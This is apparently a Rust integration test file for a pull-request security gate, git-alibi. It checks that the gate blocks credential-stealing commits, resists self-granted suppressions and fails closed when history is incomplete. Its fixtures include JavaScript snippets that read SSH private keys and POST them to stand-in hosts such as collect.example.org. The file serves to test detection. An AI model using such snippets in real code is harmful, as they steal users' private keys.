@@ -1,0 +1,250 @@
+//! A pull request, judged before it is merged: clean, malicious, moved, excused, and one that would excuse itself.
+
+#![allow(clippy::unwrap_used)] // helpers of tests are not marked as tests
+
+mod common;
+
+use common::{alibi, text};
+use git_alibi::testkit::{Story, write};
+use std::path::Path;
+use std::process::Output;
+use tempfile::TempDir;
+
+/// Reads a private key and sends it away: what must not be merged.
+const THEFT: &str = "const key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa');\\nconst req = https.request({ host: 'collect.example.org', method: 'POST' });\\nreq.end(key);\\n";
+
+/// Another that lies about since the beginning.
+const OLD: &str = "const old = fs.readFileSync(os.homedir() + '/.ssh/id_ed25519');\\nhttps.request({ host: 'old.example.org', method: 'POST' }).end(old);\\n";
+
+/// Ana keeps a project of two years, in which an old theft lies about that nobody ever saw. Ben proposes something: `steps`
+/// on the branch `proposal`. `main` are further steps of Ana's on `main` before that.
+fn project(main: &str, steps: &str) -> TempDir {
+    let told = format!(
+        "title = 't'\nstory = 's'\nhead = ''\n\
+         [people.ana]\nname = 'Ana Example'\nemail = 'ana@example.org'\nzone = 'Europe/Lisbon'\n\
+         [people.ben]\nname = 'Ben Example'\nemail = 'ben@example.org'\nzone = 'Europe/Lisbon'\n\
+         [[step]]\nby = 'ana'\nat = '2022-01-03 10:00'\nmessage = 'Begin'\nwrite = {{ 'old.js' = \"{OLD}\", 'app.js' = \"start();\\n\" }}\n\
+         [[work]]\nby = ['ana']\nfrom = '2022-01-04'\nto = '2023-12-29'\nevery = 7\n\
+         {main}\n{steps}"
+    );
+    let folder = tempfile::tempdir().unwrap();
+    write(&Story::parse("project", &told).unwrap(), folder.path()).unwrap();
+    folder
+}
+
+/// A step of somebody's, on a branch.
+fn step(by: &str, branch: &str, day: &str, files: &str) -> String {
+    format!(
+        "[[step]]\nby = '{by}'\nat = '2024-{day} 10:00'\nbranch = '{branch}'\nmessage = 'Change'\nwrite = {{ {files} }}\n"
+    )
+}
+
+fn theft(day: &str) -> String {
+    step("ben", "proposal", day, &format!("'report.js' = \"{THEFT}\""))
+}
+
+fn gate(folder: &Path, words: &[&str]) -> Output {
+    let path = folder.to_str().unwrap();
+    alibi(&[&["gate", "main..proposal", path, "--color", "never"], words].concat())
+}
+
+fn report(folder: &Path) -> serde_json::Value {
+    serde_json::from_slice(&gate(folder, &["--format", "json"]).stdout).unwrap()
+}
+
+/// The ids of what counts.
+fn ids(folder: &Path) -> Vec<String> {
+    let report = report(folder);
+    let findings = report["findings"].as_array().unwrap().iter();
+    findings.filter(|f| f["counted_db"].as_f64() > Some(0.0)).map(|f| f["id"].as_str().unwrap().to_owned()).collect()
+}
+
+/// The suppression of a finding, as a file's text within TOML.
+fn suppression(id: &str, more: &str) -> String {
+    format!("[[suppress]]\\nfinding = '{id}'\\nreason = 'Ana asked Ben, and it is a fixture'\\n{more}")
+}
+
+#[test]
+fn a_clean_proposal_passes_in_one_line_whatever_is_old() {
+    let clean = project("", &step("ben", "proposal", "01-08", "'app.js' = \"start(now());\\n\""));
+    let out = gate(clean.path(), &[]);
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
+    assert_eq!(text(&out.stdout), "git-alibi main..proposal: 1 commit judged, nothing that needs a look\n");
+    let scan = alibi(&["scan", clean.path().to_str().unwrap(), "--fail-on", "block"]);
+    assert_eq!(scan.status.code(), Some(1), "the old theft is there to be found, and is not this proposal's");
+    let empty = alibi(&["gate", "main..main", clean.path().to_str().unwrap()]);
+    assert_eq!((empty.status.code(), text(&empty.stdout).contains("no commits to judge")), (Some(0), true));
+}
+
+#[test]
+fn a_proposal_that_steals_is_stopped_with_the_line_the_reason_and_the_fix() {
+    let bad = project("", &theft("01-08"));
+    let out = gate(bad.path(), &[]);
+    let told = text(&out.stdout);
+    assert_eq!(out.status.code(), Some(1), "{told}");
+    for part in ["report.js:1", "Ben Example", "credential-read-egress", "why:", "fix:", "see: git -C", "[[suppress]]"]
+    {
+        assert!(told.contains(part), "{part} is missing: {told}");
+    }
+    assert!(!told.contains("old.js"), "what is old is not told: {told}");
+    assert_eq!(gate(bad.path(), &["--fail-on", "never"]).status.code(), Some(0));
+    let review = gate(bad.path(), &["--fail-on", "review", "--skip", "content"]);
+    assert_eq!(review.status.code(), Some(0), "{}", text(&review.stdout));
+}
+
+#[test]
+fn a_finding_keeps_its_id_when_it_is_rebased_shifted_and_renamed() {
+    let before = project("", &theft("01-08"));
+    let other = step("ana", "main", "01-15", "'app.js' = \"begin();\\n\"");
+    let shifted = format!("'report.js' = \"// What we send, and why.\\nlet a = 1;\\nlet b = 2;\\n{THEFT}\"");
+    let after = project(&other, &step("ben", "proposal", "02-05", &shifted));
+    let (first, second) = (ids(before.path()), ids(after.path()));
+    assert_eq!(first, second);
+    assert!(first[0].starts_with("credential-read-egress:"), "{first:?}");
+    let lines = |folder: &TempDir| report(folder.path())["findings"][0]["line"].clone();
+    assert_ne!(lines(&before), lines(&after), "the line has moved");
+    let print = |folder: &TempDir| {
+        let out = gate(folder.path(), &["--format", "sarif"]);
+        let sarif: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+        sarif["runs"][0]["results"][0]["partialFingerprints"].clone()
+    };
+    assert_eq!(print(&before), print(&after));
+}
+
+#[test]
+fn what_main_excuses_passes_and_is_counted() {
+    let id = ids(project("", &theft("01-08")).path())[0].clone();
+    let excused = |more: &str| {
+        let file = step("ana", "main", "01-02", &format!("'alibi.toml' = \"{}\"", suppression(&id, more)));
+        project(&file, &theft("01-08"))
+    };
+    let folder = excused("owner = 'ana'\\n");
+    let out = gate(folder.path(), &[]);
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stdout));
+    assert!(text(&out.stdout).contains("(1 suppressed)"), "{}", text(&out.stdout));
+    let told = report(folder.path());
+    let finding = told["findings"].as_array().unwrap().iter().find(|f| f["id"] == id.as_str()).unwrap();
+    assert_eq!(finding["suppressed"]["reason"], "Ana asked Ben, and it is a fixture");
+    assert_eq!((&finding["suppressed"]["by"], &finding["counted_db"]), (&"file".into(), &0.0.into()));
+    assert_eq!(gate(folder.path(), &["--no-suppressions"]).status.code(), Some(1));
+    // The clock of the tests stands at the first day of 2025.
+    assert_eq!(gate(excused("expires = 2025-01-01\\n").path(), &[]).status.code(), Some(0), "the last day counts");
+    let expired = gate(excused("expires = 2024-12-31\\n").path(), &[]);
+    assert_eq!(expired.status.code(), Some(1));
+    assert!(text(&expired.stdout).contains("expired after 2024-12-31"), "{}", text(&expired.stdout));
+    let disputed = gate(excused("disputed = true\\n").path(), &["--verbose"]);
+    assert_eq!(disputed.status.code(), Some(0));
+    assert!(text(&disputed.stdout).contains("not counted: disputed"), "{}", text(&disputed.stdout));
+    let broken = step("ana", "main", "01-02", "'alibi.toml' = \"[[suppress]]\\nfinding = 'x'\\n\"");
+    let out = gate(project(&broken, &theft("01-08")).path(), &[]);
+    assert_eq!(out.status.code(), Some(2));
+    assert!(text(&out.stderr).contains("alibi.toml:2:11"), "{}", text(&out.stderr));
+}
+
+#[test]
+fn a_proposal_cannot_excuse_itself() {
+    let id = ids(project("", &theft("01-08")).path())[0].clone();
+    let file = format!("'report.js' = \"{THEFT}\"");
+    let ways = [
+        ("alibi.toml", format!("'alibi.toml' = \"{}\", {file}", suppression(&id, ""))),
+        ("alibi-baseline.toml", format!("'alibi-baseline.toml' = \"reason = 'x'\\nfindings = ['{id}']\\n\", {file}")),
+        (".mailmap", format!("'.mailmap' = \"Ana Example <ana@example.org> <ben@example.org>\\n\", {file}")),
+        ("CODEOWNERS", format!("'CODEOWNERS' = \"nothing @ben\\n\", {file}")),
+        ("report.js", format!("'report.js' = \"// git-alibi: ignore[credential-read-egress] it is fine\\n{THEFT}\"")),
+    ];
+    for (what, files) in &ways {
+        let folder = project("", &step("ben", "proposal", "01-08", files));
+        let out = gate(folder.path(), &[]);
+        let told = text(&out.stdout);
+        assert_eq!(out.status.code(), Some(1), "{what}: {told}");
+        assert!(told.contains("by Ben Example"), "{what} makes it nobody else's: {told}");
+        let said = if *what == "report.js" { "cannot ignore itself" } else { "as it stands before the range" };
+        assert!(told.contains(said) && told.contains(what), "{what} is told of: {told}");
+    }
+    // In two steps of one proposal, too.
+    let first = step("ben", "proposal", "01-08", &format!("'alibi.toml' = \"{}\"", suppression(&id, "")));
+    let out = gate(project("", &format!("{first}{}", theft("01-09"))).path(), &[]);
+    assert_eq!(out.status.code(), Some(1), "{}", text(&out.stdout));
+}
+
+#[test]
+fn a_comment_that_stood_there_before_excuses_what_follows_it() {
+    let before = step(
+        "ana",
+        "main",
+        "01-02",
+        "'report.js' = \"// git-alibi: ignore[credential-read-egress owner=ana] the vault's own client\\n\"",
+    );
+    let change = format!(
+        "'report.js' = \"// git-alibi: ignore[credential-read-egress owner=ana] the vault's own client\\n{THEFT}\""
+    );
+    let folder = project(&before, &step("ben", "proposal", "01-08", &change));
+    let out = gate(folder.path(), &[]);
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stdout));
+    let told = report(folder.path());
+    let found = told["findings"].as_array().unwrap().iter().find(|f| f["suppressed"]["by"] == "inline").unwrap();
+    assert_eq!(found["suppressed"]["owner"], "ana");
+    assert_eq!(found["suppressed"]["reason"], "the vault's own client");
+}
+
+#[test]
+fn what_cannot_be_seen_fails_closed_and_says_what_brings_it() {
+    let bad = project("", &theft("01-08"));
+    let path = bad.path().to_str().unwrap();
+    let refused = |range: &str, more: &[&str]| {
+        let out = alibi(&[&["gate", range, path], more].concat());
+        (out.status.code().unwrap(), text(&out.stderr), text(&out.stdout))
+    };
+    let (code, said, _) = refused("origin/main...proposal", &[]);
+    assert!(code == 3 && said.contains("git fetch origin main"), "{code} {said}");
+    let (code, said, _) = refused("0000000000000000000000000000000000000000..proposal", &[]);
+    assert!(code == 3 && said.contains("origin/main...HEAD"), "{code} {said}");
+    let (code, said, _) = refused("1234567890123456789012345678901234567890..proposal", &[]);
+    assert!(code == 3 && said.contains("git fetch origin 1234567890123456789012345678901234567890"), "{code} {said}");
+    let (code, said, _) = refused("origin/main..proposal", &["--allow-partial"]);
+    assert!(code == 0 && said.contains("nothing was judged"), "{code} {said}");
+    let (code, _, told) = refused("proposal..0000000000000000000000000000000000000000", &[]);
+    assert!(code == 0 && told.contains("nothing to judge"), "a deleted branch: {told}");
+    assert_eq!(refused("proposal", &[]).0, 2);
+    assert_eq!(refused("main..proposal", &["--time-limit", "0"]).0, 2);
+    // Shallow: what lies before is not known.
+    let tip = git2::Repository::open_bare(bad.path()).unwrap().refname_to_id("refs/heads/main").unwrap();
+    std::fs::write(bad.path().join("shallow"), format!("{tip}\n")).unwrap();
+    let clean = project("", &step("ben", "proposal", "01-08", "'app.js' = \"start(now());\\n\""));
+    let tip = git2::Repository::open_bare(clean.path()).unwrap().refname_to_id("refs/heads/main").unwrap();
+    std::fs::write(clean.path().join("shallow"), format!("{tip}\n")).unwrap();
+    let out = gate(clean.path(), &[]);
+    assert_eq!(out.status.code(), Some(3), "{}", text(&out.stdout));
+    assert!(text(&out.stderr).contains("git fetch --unshallow"), "{}", text(&out.stderr));
+    assert_eq!(gate(clean.path(), &["--allow-partial"]).status.code(), Some(0));
+    assert_eq!(gate(bad.path(), &["--allow-partial"]).status.code(), Some(1), "what can be seen is judged");
+}
+
+#[test]
+fn a_file_of_the_proposal_that_cannot_be_read_fails_closed_and_an_old_one_does_not() {
+    let object_of = |folder: &TempDir, rev: &str| {
+        let repo = git2::Repository::open_bare(folder.path()).unwrap();
+        let id = repo.revparse_single(rev).unwrap().id().to_string();
+        common::object(folder.path(), &id)
+    };
+    let lost = project("", &step("ben", "proposal", "01-08", "'new.js' = \"let a = 1;\\n\""));
+    std::fs::remove_file(object_of(&lost, "proposal:new.js")).unwrap();
+    let out = gate(lost.path(), &[]);
+    assert_eq!(out.status.code(), Some(3), "{}", text(&out.stdout));
+    assert!(text(&out.stderr).contains("missing"), "{}", text(&out.stderr));
+    let old = project("", &step("ben", "proposal", "01-08", "'new.js' = \"let a = 1;\\n\""));
+    std::fs::remove_file(object_of(&old, "main:old.js")).unwrap();
+    let out = gate(old.path(), &[]);
+    assert_eq!(out.status.code(), Some(0), "{}{}", text(&out.stdout), text(&out.stderr));
+}
+
+#[test]
+fn a_force_push_is_judged_by_what_it_brings() {
+    // The branch was rewritten: what the push leaves behind is not judged again, what is new is.
+    let folder = project("", &format!("{}{}", theft("01-08"), step("ben", "again", "01-09", "'b.js' = \"let b;\\n\"")));
+    let path = folder.path().to_str().unwrap();
+    let clean = alibi(&["gate", "proposal..again", path]);
+    assert_eq!(clean.status.code(), Some(0), "{}", text(&clean.stdout));
+    let bad = alibi(&["gate", "again..proposal", path]);
+    assert_eq!(bad.status.code(), Some(1), "{}", text(&bad.stdout));
+}
